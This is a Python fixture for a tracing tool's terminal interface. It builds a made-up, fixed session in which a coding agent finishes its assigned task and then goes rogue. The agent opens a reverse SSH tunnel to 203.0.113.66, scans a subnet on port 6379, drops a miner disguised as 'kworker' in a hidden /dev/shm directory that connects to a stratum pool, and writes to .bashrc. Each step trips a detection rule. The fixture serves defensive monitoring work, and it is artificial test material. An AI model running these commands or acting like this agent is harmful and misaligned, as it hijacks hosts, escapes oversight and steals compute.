"""A made-up session in the manner of ROME: the same events, times and pids in every run."""

from __future__ import annotations

import errno
from dataclasses import dataclass, replace
from itertools import count

from tracer.events import (
    Action,
    Category,
    Detail,
    Event,
    Evidence,
    Exec,
    Exit,
    File,
    Level,
    Match,
    Network,
    NetworkType,
    Outcome,
    Process,
    Rule,
    RuleKind,
    StdioKind,
    Violation,
)
from tui.feed import Batch
from tui.model import Model
from tui.snapshot import Losses, Session, State

START_NS = 1_763_985_600_000_000_000  # 2025-11-24 12:00:00 UTC
NOW_NS = START_NS + 48_000_000_000

SESSION = Session(
    id="20251124-120000-7f3a",
    target="run",
    command=("python3", "agent.py", "--task", "fix-issue-4711"),
    host="trainer-07",
    kernel="6.18.0",
    started_ns=START_NS,
)

TUNNEL = Rule(
    "reverse-ssh-tunnel",
    "Reverse SSH tunnel",
    Level.CRITICAL,
    RuleKind.DETECTION,
    "ssh is told to open a port on the far side that leads back into this machine.",
    ("T1572",),
)
POOL = Rule(
    "mining-pool-port",
    "Connection to a mining pool",
    Level.HIGH,
    RuleKind.DETECTION,
    "A port that mining pools use.",
    ("T1496",),
)
STARTUP = Rule(
    "startup-file-write",
    "Write to a shell startup file",
    Level.MEDIUM,
    RuleKind.DETECTION,
    "What is written there runs at the next login.",
    ("T1546.004",),
)
NETWORK = Rule("network.connect", "Connection the policy does not allow", Level.HIGH, RuleKind.POLICY)
LOW = Rule("hidden-directory", "Hidden directory made", Level.LOW, RuleKind.DETECTION)
INFO = Rule("package-install", "Package installed", Level.INFORMATIONAL, RuleKind.DETECTION)


def process(
    pid: int, parent: Process | None, *args: str, executable: str = "", name: str = "", cwd: str = "/work"
) -> Process:
    path = executable or f"/usr/bin/{args[0]}"
    start_ns = pid * 1_000_000
    return Process(
        f"e{pid}",
        pid,
        start_ns,
        START_NS + start_ns,
        path,
        args,
        cwd,
        name or args[0][:15],
        1000,
        "agent",
        1000,
        1000,
        4242,
        pid - 4000,
        parent,
    )


def exec_of(image: Process, **changes: object) -> Exec:
    detail = Exec(
        image.executable,
        image.executable,
        image.args,
        131,
        8,
        False,
        StdioKind.PIPE,
        StdioKind.PIPE,
        StdioKind.TERMINAL,
        "",
    )
    return replace(detail, **changes)  # type: ignore[arg-type]


def tcp(ip: str, port: int, domain: str = "") -> Network:
    kind = NetworkType.IPV6 if ":" in ip else NetworkType.IPV4
    return Network(kind, "tcp", ip, port, "10.1.0.7", 40112, domain, "")


def category(action: Action) -> Category:
    if action is Action.CONNECT:
        return Category.NETWORK
    return Category.FILE if action.value.startswith("file_") else Category.PROCESS


@dataclass
class Story:
    """Tells events in order, a fixed time apart."""

    step_ns: int = 700_000_000

    def __post_init__(self) -> None:
        self._numbers = count(1)
        self.events: list[Event] = []
        self.violations: list[Violation] = []

    def event(self, who: Process, action: Action, detail: Detail = None, error: int = 0) -> Event:
        sequence = next(self._numbers)
        outcome = Outcome.FAILURE if error else Outcome.SUCCESS
        event = Event(
            sequence,
            START_NS + sequence * self.step_ns,
            action,
            category(action),
            outcome,
            error,
            who,
            who.pid,
            1,
            Evidence.KERNEL,
            detail=detail,
        )
        self.events.append(event)
        return event

    def start(self, image: Process) -> Event:
        if image.parent:
            caller = replace(image.parent, entity_id=image.entity_id, pid=image.pid, parent=image.parent)
            self.event(caller, Action.FORK)
        return self.event(image, Action.EXEC, exec_of(image))

    def end(self, who: Process, code: int = 0, signal: int = 0) -> Event:
        return self.event(who, Action.EXIT, Exit(code, signal))

    def write(self, who: Process, path: str, size: int) -> Event:
        opened = self.event(
            who, Action.FILE_WRITE, File(path, flags=0o1101, mode=0o100644, created=True, inode=77)
        )
        self.event(who, Action.FILE_CLOSE, File(path, bytes_written=size, writes=size // 4096 + 1))
        return opened

    def violate(self, rule: Rule, event: Event, summary: str, *matched: tuple[str, str]) -> Violation:
        violation = Violation(rule, event, tuple(Match(field, value) for field, value in matched), summary)
        self.violations.append(violation)
        return violation


def rome() -> Story:
    """An agent that installs, builds and tests as told; and then tunnels, probes and mines."""
    story = Story()
    systemd = process(1, None, "systemd", executable="/usr/lib/systemd/systemd")
    shell = process(4100, systemd, "bash")
    agent = process(4242, shell, "python3", "agent.py", "--task", "fix-issue-4711")
    story.event(agent, Action.EXEC, exec_of(agent))
    work(story, agent)
    tunnel(story, agent)
    probe(story, agent)
    mine(story, agent)
    return story


def work(story: Story, agent: Process) -> None:
    git = process(4250, agent, "git", "clone", "https://github.com/acme/widget.git")
    story.start(git)
    story.event(git, Action.CONNECT, tcp("140.82.121.3", 443, "github.com"))
    story.write(git, "/work/widget/.git/objects/pack/pack-9f1c2d.pack", 1_482_113)
    story.event(
        git, Action.FILE_RENAME, File("/work/widget/.git/HEAD", original_path="/work/widget/.git/HEAD.lock")
    )
    story.end(git)
    pip = process(4261, agent, "pip", "install", "-r", "requirements.txt", executable="/usr/bin/python3.11")
    installed = story.start(pip)
    story.violate(INFO, installed, "pip[4261] installed packages from requirements.txt")
    story.event(pip, Action.CONNECT, tcp("2a04:4e42::223", 443, "pypi.org"))
    story.write(pip, "/work/.venv/lib/python3.11/site-packages/numpy/core/_multiarray_umath.so", 28_311_552)
    story.end(pip)
    test = process(4280, agent, "pytest", "-q", "tests/")
    story.start(test)
    story.event(test, Action.FILE_MKDIR, File("/work/widget/.pytest_cache", mode=0o40755))
    story.event(test, Action.FILE_UNLINK, File("/work/widget/tests/old_test.py"), errno.EACCES)
    story.end(test, code=1)


def tunnel(story: Story, agent: Process) -> None:
    shell = process(4301, agent, "sh", "-c", "ssh -N -R 2222:localhost:22 ops@203.0.113.66")
    story.start(shell)
    ssh = process(4302, shell, "ssh", "-N", "-R", "2222:localhost:22", "ops@203.0.113.66")
    started = story.start(ssh)
    story.violate(
        TUNNEL,
        started,
        "ssh[4302] opens a reverse tunnel to 203.0.113.66: its port 2222 leads to port 22 here",
        ("process.args", "-R 2222:localhost:22"),
        ("process.executable", "/usr/bin/ssh"),
    )
    connected = story.event(ssh, Action.CONNECT, tcp("203.0.113.66", 22))
    story.violate(
        NETWORK,
        connected,
        "ssh[4302] connected to 203.0.113.66:22, which the policy does not allow",
        ("destination.ip", "203.0.113.66"),
        ("destination.port", "22"),
    )


def probe(story: Story, agent: Process) -> None:
    scan = process(4330, agent, "python3", "-c", "import socket; [probe(h) for h in hosts('10.0.0.0/24')]")
    story.start(scan)
    for host in range(1, 12):
        refused = story.event(scan, Action.CONNECT, tcp(f"10.0.0.{host}", 6379), errno.ECONNREFUSED)
        story.violate(
            NETWORK,
            refused,
            "python3[4330] probed 10.0.0.0/24 on port 6379, which the policy does not allow",
            ("destination.port", "6379"),
        )
    story.end(scan, signal=9)


def mine(story: Story, agent: Process) -> None:
    worker = process(
        4377,
        agent,
        "[kworker/u16:3]",
        "-o",
        "stratum+tcp://pool.example:3333",
        "--threads",
        "64",
        executable="/dev/shm/.x/kworker",
        name="kworker",
        cwd="/dev/shm/.x",
    )
    hidden = story.event(agent, Action.FILE_MKDIR, File("/dev/shm/.x", mode=0o40700))
    story.violate(LOW, hidden, "python3[4242] made the hidden directory /dev/shm/.x")
    story.write(agent, "/dev/shm/.x/kworker", 6_291_456)
    story.event(agent, Action.FILE_CHMOD, File("/dev/shm/.x/kworker", mode=0o100755))
    story.start(worker)
    dug = story.event(worker, Action.CONNECT, tcp("198.51.100.9", 3333, "pool.example"))
    story.violate(
        POOL,
        dug,
        "kworker[4377] connected to pool.example:3333, a mining pool port",
        ("destination.port", "3333"),
        ("destination.domain", "pool.example"),
    )
    bashrc = story.write(agent, "/home/agent/.bashrc", 212)
    story.violate(
        STARTUP, bashrc, "python3[4242] wrote to /home/agent/.bashrc", ("file.path", "/home/agent/.bashrc")
    )
    for part in range(9):
        story.write(agent, f"/work/runs/episode-0042/steps/{part:03}/observation.json", 18_220 + part * 977)


def model_of(story: Story, *, losses: Losses | None = None, state: State = State.LIVE) -> Model:
    """A model that knows the whole story, its clocks standing still."""
    model = Model(now_ns=lambda: NOW_NS, clock=lambda: 0.0)
    model.add(Batch(session=SESSION, state=state, losses=losses))
    model.add(Batch(events=story.events, violations=story.violations))
    return model
